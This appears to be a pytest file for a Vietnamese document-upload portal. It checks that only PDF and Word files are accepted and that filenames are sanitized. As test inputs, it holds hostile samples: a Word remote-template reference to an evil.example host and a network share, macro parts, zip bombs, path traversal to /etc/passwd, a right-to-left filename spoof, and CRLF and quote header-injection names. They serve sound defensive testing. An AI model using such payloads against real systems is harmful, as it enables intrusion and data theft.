"""Evidence is judged by what it holds, names are made tame."""

import contextlib
import io
import struct
import unicodedata
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.files import documents, sizes
from portal.files.errors import Refused
from portal.files.names import LONGEST, clean_name, shown_name
from tests.factories import files

TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="%s" TargetMode="External"/>'


def test_pdf_and_word_are_taken():
    assert documents.kind_of(files.pdf()) == "pdf"
    assert documents.kind_of(files.docx()) == "docx"
    local = TEMPLATE % rb"file:///C:\Users\CA\AppData\Normal.dotm"
    assert documents.kind_of(files.docx(parts={"word/_rels/settings.xml.rels": local})) == "docx"


def other_zip(**parts) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return buffer.getvalue()


def with_many_parts() -> bytes:
    return files.docx(parts={f"word/media/{number}": b"" for number in range(documents.MOST_PARTS)})


def unpacking_to_much() -> bytes:
    return files.docx(parts={"word/media/0": bytes(documents.MOST_UNPACKED + 1)})


def claiming_a_huge_list() -> bytes:
    data = bytearray(files.docx())
    end = data.rfind(b"PK\x05\x06")
    data[end + 12 : end + 16] = struct.pack("<I", documents.MOST_DIRECTORY + 1)
    return bytes(data)


MACRO_TYPES = b"application/vnd.ms-word.document.macroEnabled.main+xml"
REFUSED = {
    "nothing": (lambda: b"", "Tệp rỗng"),
    "executable": (lambda: b"MZ" + bytes(100), "Chỉ nhận tài liệu PDF hoặc Word"),
    "html": (lambda: files.HTML, "Chỉ nhận tài liệu"),
    "picture": (files.jpeg, "Chỉ nhận tài liệu"),
    "html before pdf": (lambda: files.HTML + files.pdf(), "Chỉ nhận tài liệu"),
    "postscript as pdf": (lambda: b"%PDF-x" + files.pdf()[8:], "Chỉ nhận tài liệu"),
    "pdf cut short": (lambda: files.pdf()[:-30], "cắt cụt"),
    "old word": (lambda: documents.OLE_START + bytes(600), "Word kiểu cũ"),
    "plain zip": (lambda: other_zip(a=b"b"), "Chỉ nhận tài liệu"),
    "excel": (lambda: other_zip(**{"[Content_Types].xml": b"", "xl/workbook.xml": b""}), "Chỉ nhận tài liệu"),
    "word cut short": (lambda: files.docx()[:-30], "cắt cụt"),
    "macros": (lambda: files.docx(parts={"word/vbaProject.bin": b"x"}), "macro"),
    "macros in capitals": (lambda: files.docx(parts={"word/VBAPROJECT.BIN": b"x"}), "macro"),
    "macro type": (lambda: files.docx(types=MACRO_TYPES), "macro"),
    "other type": (lambda: files.docx(types=b"application/x"), "Chỉ nhận tài liệu"),
    "template elsewhere": (
        lambda: files.docx(parts={"word/_rels/settings.xml.rels": TEMPLATE % b"https://evil.example/a.dotm"}),
        "mẫu từ máy khác",
    ),
    "template on a share": (
        lambda: files.docx(parts={"word/_rels/settings.xml.rels": TEMPLATE % rb"\\10.0.0.9\a.dotm"}),
        "mẫu từ máy khác",
    ),
    "no document inside": (lambda: files.docx(parts={"word/document.xml": b"MZ"}), "cắt cụt"),
    "many parts": (with_many_parts, "nén bất thường"),
    "zip bomb": (unpacking_to_much, "nén bất thường"),
    "huge list": (claiming_a_huge_list, "nén bất thường"),
    "too large": (lambda: b"%PDF-1.4" + bytes(sizes.DOCUMENT_BYTES), "quá 20 MB"),
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", REFUSED)
def test_others_are_refused_in_words(name):
    make, words = REFUSED[name]
    with pytest.raises(Refused, match=words):
        documents.kind_of(make())


@settings(max_examples=150, deadline=None)
@given(st.integers(0, 600), st.binary(max_size=40))
def test_a_damaged_word_file_is_refused_or_taken_never_a_crash(place, noise):
    data = bytearray(files.docx())
    data[place : place + len(noise)] = noise
    with contextlib.suppress(Refused):
        assert documents.kind_of(bytes(data)) in ("pdf", "docx")


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Biên bản Hoà giải.PDF", "Biên bản Hoà giải.pdf"),
        ("C:\\Users\\CA\\Kế hoạch.pdf", "Kế hoạch.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("ke-hoach\u202efdp.exe", "ke-hoachfdp.exe.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie- x.pdf"),
        ('x"; filename="y.html', "x-; filename=-y.html.pdf"),
        (".pdf", "tep.pdf"),
        ("", "tep.pdf"),
        ("...", "tep.pdf"),
        (unicodedata.normalize("NFD", "Đề án.pdf"), "Đề án.pdf"),
        ("a.pdf.pdf", "a.pdf"),
    ],
)
def test_names_are_made_tame(sent, kept):
    assert clean_name(sent, "pdf") == kept


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_no_name_leads_elsewhere(sent):
    for name in (clean_name(sent, "pdf"), shown_name(sent)):
        assert len(name) <= LONGEST and "/" not in name and "\\" not in name
        assert not any(unicodedata.category(letter) in ("Cc", "Cf", "Zl", "Zp") for letter in name)
    assert clean_name(sent, "pdf").endswith(".pdf") and not clean_name(sent, "pdf").startswith(".")
